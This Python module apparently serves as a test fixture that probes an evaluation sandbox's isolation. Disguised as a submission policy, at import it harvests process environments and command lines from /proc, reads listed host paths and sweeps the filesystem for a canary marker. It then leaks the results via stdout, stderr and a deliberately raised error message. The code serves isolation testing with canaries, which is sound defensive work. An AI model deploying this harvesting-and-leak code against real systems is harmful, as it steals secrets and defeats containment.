"""Looks for secrets at import: host paths it was told about, the environment of every process it can see,
and every small file on the filesystem outside the image's own code, searching for the marker ``LSCANARY``.

``targets.txt`` (written by the test next to this file) lists absolute host paths holding canaries: the worker's
temporary directory, the evaluation-set file, another submission's bundle. An attacker who knows exactly where the
secrets live is the strongest case. Everything found is printed at import and again at the first decision, so it
would reach every channel back to the participant (startup output, episode stdout, stderr, the error message).
"""

import json
import os
import sys
import time

MARKER = b"LSCANARY"
SKIP = ("/proc", "/sys", "/dev", "/usr/lib", "/usr/share", "/usr/local/lib", "/usr/include")
HERE = os.path.dirname(os.path.abspath(__file__))


def read(path, limit=1 << 20):
    with open(path, "rb") as f:
        return f.read(limit)


def attempt(path):
    try:
        data = read(path)
    except OSError as exc:
        return f"refused: {type(exc).__name__}: {exc}"
    return "read: " + data[:300].decode("latin-1")


def hits(data):
    found, start = [], 0
    while (i := data.find(MARKER, start)) >= 0 and len(found) < 5:
        found.append(data[max(0, i - 20) : i + 60].decode("latin-1"))
        start = i + 1
    return found


def sweep(budget_s=3.0):
    """Every readable regular file under / (minus the image's libraries), searched for the marker."""
    found, files, stop = {}, 0, time.monotonic() + budget_s
    for root, dirs, names in os.walk("/", onerror=lambda exc: None):
        if root.startswith(SKIP) or root == HERE or time.monotonic() > stop:  # its own bundle names the marker
            dirs[:] = []
            continue
        for name in names:
            path = os.path.join(root, name)
            try:
                if not os.path.isfile(path) or os.path.getsize(path) > (1 << 20):
                    continue
                data = read(path)
            except OSError:
                continue
            files += 1
            if h := hits(data):
                found[path] = h
    return files, found


def processes():
    """Environment and command line of every process in sight (the worker's, if the PID namespace leaked)."""
    seen = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for what in ("environ", "cmdline"):
                try:
                    data = read(f"/proc/{pid}/{what}")
                except OSError:
                    continue
                seen[f"{pid}/{what}"] = data.replace(b"\0", b" ").decode("latin-1")[:2000]
    return seen


def snoop():
    try:
        targets = read(os.path.join(HERE, "targets.txt")).decode().split()
    except OSError:
        targets = []
    files, found = sweep()
    return {
        "targets": {t: attempt(t) for t in targets},
        "environ": dict(os.environ),
        "processes": processes(),
        "mountinfo": attempt("/proc/self/mountinfo"),
        "files_searched": files,
        "marker_hits": found,
        "bundle": sorted(os.listdir(HERE)),
        "bundle_parent": attempt(os.path.dirname(HERE)),
    }


FOUND = snoop()
REPORT = json.dumps(FOUND)
# The findings that matter, small enough to survive the traceback cut in an error message.
SECRETS = json.dumps({k: FOUND[k] for k in ("targets", "marker_hits", "environ")})
print(REPORT)
print(REPORT, file=sys.stderr)


def policy(env, task, rng):
    if env.k == 0:
        print(REPORT)
        print(REPORT, file=sys.stderr)
    if env.k == 1:
        raise RuntimeError(SECRETS)  # the error message is a channel back too
    return int(env.mask(task).argmax())
